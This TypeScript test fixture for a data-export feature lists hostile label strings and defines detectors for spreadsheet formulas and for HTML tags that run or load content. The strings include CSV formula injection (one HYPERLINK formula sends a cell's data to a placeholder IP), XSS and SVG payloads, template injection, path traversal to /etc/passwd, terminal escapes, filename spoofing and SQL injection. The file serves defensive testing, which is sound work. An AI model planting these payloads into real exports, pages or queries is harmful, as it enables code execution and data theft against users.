/** Labels of data as somebody who wishes its readers ill would write them into an export. */
export const hostileLabels: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://192.0.2.1/?x="&A1,"home")',
  '+1+cmd',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝1+1',
  'a;=1+1',
  '<script>globalThis.hostile=1</script>',
  '<img src=x onerror="globalThis.hostile=1">',
  '"><svg onload=globalThis.hostile=1>',
  '</title></metadata></svg><script>globalThis.hostile=1</script>',
  ']]><script>globalThis.hostile=1</script>',
  '&lt;b&gt;&#60;script&#62;',
  'javascript:globalThis.hostile=1',
  '{{7*7}} #{7*7} {b|bold}',
  '__proto__',
  'constructor',
  'toString',
  '../../../etc/passwd',
  'C:\\Windows\\win.ini',
  '\u001b[2J\u001b]0;owned\u0007',
  '\u202egpj.exe',
  "'; DROP TABLE events; --",
];

/** What a spreadsheet takes up as a formula, at the start of a field or after what it also splits at. */
export const runsAsFormula = /(^|[;\t\r\n])["\s]*[=+\-@＝＋－＠]/u;

const runningTags =
  /^(?:script|iframe|frame|object|embed|applet|link|base|foreignobject|form|animate|set|use)$/;

/** Tags of HTML or SVG that run, load or send anything. Text that is escaped is in no tag. */
export function whatRuns(markup: string): readonly string[] {
  return [...markup.matchAll(/<\/?([a-z][\w-]*)((?:"[^"]*"|'[^']*'|[^>"'])*)>/gi)]
    .filter(([, name, attributes]) => {
      if (runningTags.test(name!.toLowerCase())) return true;
      return [...attributes!.matchAll(/([\w:-]+)\s*=\s*("[^"]*"|'[^']*'|[^\s"']+)/g)].some(
        ([, key, value]) => {
          if (/^on/i.test(key!)) return true;
          const loads = /^(?:src|srcset|href|xlink:href|action|formaction|data|poster|background)$/i.test(
            key!,
          );
          return loads && !/^["'](?:#|data:(?:image|font)\/)/.test(value!);
        },
      );
    })
    .map(([tag]) => tag.slice(0, 120));
}
